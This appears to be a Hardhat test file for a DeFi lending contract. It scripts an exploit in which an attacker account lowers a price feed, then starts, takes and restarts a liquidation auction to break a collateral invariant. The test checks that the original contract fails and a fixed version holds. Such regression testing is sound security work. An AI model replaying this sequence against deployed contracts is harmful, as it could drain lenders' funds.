import { expect } from "chai";
import { network } from "hardhat";
import { parseEther, parseUnits } from "viem";

async function attack(contract: string): Promise<boolean> {
  const { viem } = await network.create();
  const weth = await viem.deployContract("GavelLoansWeth");
  const usdc = await viem.deployContract("GavelLoansUsdc");
  const feed = await viem.deployContract("GavelLoansEthUsd", [parseUnits("2500", 8)]);
  const loans = await viem.deployContract(contract, [weth.address, usdc.address, feed.address]);
  const checker = await viem.deployContract("GavelLoansInvariants", [loans.address]);
  const clock = await viem.getTestClient();
  const [owner, ann, bob, eve] = await viem.getWalletClients();
  await usdc.write.mint([owner.account.address, parseUnits("5000000", 6)]);
  await usdc.write.approve([loans.address, parseUnits("5000000", 6)]);
  await loans.write.fund([parseUnits("5000000", 6)]);
  for (const [client, collateral, debt] of [[ann, "400", "650000"], [bob, "600", "600000"]] as const) {
    await weth.write.mint([client.account.address, parseEther(collateral)]);
    await weth.write.approve([loans.address, parseEther(collateral)], { account: client.account });
    await loans.write.deposit([parseEther(collateral)], { account: client.account });
    await loans.write.borrow([parseUnits(debt, 6)], { account: client.account });
  }
  await usdc.write.mint([eve.account.address, parseUnits("500000", 6)]);
  await usdc.write.approve([loans.address, parseUnits("500000", 6)], { account: eve.account });
  expect(await checker.read.invariant_collateralIsThere()).to.equal(true);

  const account = eve.account;
  await feed.write.setAnswer([parseUnits("1900", 8)]);
  await loans.write.start([ann.account.address], { account });
  await loans.write.take([0n, parseEther("100")], { account });
  await clock.increaseTime({ seconds: 3_600 });
  await loans.write.restart([0n], { account });
  return checker.read.invariant_collateralIsThere();
}

describe("GavelLoans", () => {
  it("is broken", async () => expect(await attack("GavelLoans")).to.equal(false));
  it("holds when fixed", async () => expect(await attack("GavelLoansFixed")).to.equal(true));
});
